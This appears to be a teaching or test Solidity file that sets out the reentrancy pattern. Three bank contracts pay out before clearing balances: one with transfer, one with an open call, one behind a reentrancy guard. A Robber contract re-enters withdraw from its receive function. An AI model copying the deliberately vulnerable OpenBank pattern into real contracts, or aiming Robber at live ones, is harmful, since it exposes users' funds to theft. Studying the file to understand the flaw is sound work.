// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {ReentrancyGuard} from "@openzeppelin/contracts/utils/ReentrancyGuard.sol";

interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

/// Pays before it keeps the books, by a call that gives the callee no right to come back.
contract TransferBank is IBank {
    mapping(address => uint256) public deposits;

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw() external {
        payable(msg.sender).transfer(deposits[msg.sender]);
        deposits[msg.sender] = 0;
    }
}

/// Makes the same mistake, and with a call that lets everything happen.
contract OpenBank is IBank {
    mapping(address => uint256) public deposits;

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw() external virtual {
        (bool ok,) = msg.sender.call{value: deposits[msg.sender]}("");
        require(ok, "payment failed");
        deposits[msg.sender] = 0;
    }
}

/// Makes the same mistake behind a guard.
contract GuardedBank is IBank, ReentrancyGuard {
    mapping(address => uint256) public deposits;

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw() external nonReentrant {
        (bool ok,) = msg.sender.call{value: deposits[msg.sender]}("");
        require(ok, "payment failed");
        deposits[msg.sender] = 0;
    }
}

/// Withdraws again while it is being paid.
contract Robber {
    IBank private immutable bank;
    uint256 private rounds;

    constructor(IBank target) {
        bank = target;
    }

    function rob(uint256 times) external payable {
        rounds = times;
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        if (rounds == 0) return;
        rounds--;
        bank.withdraw();
    }
}
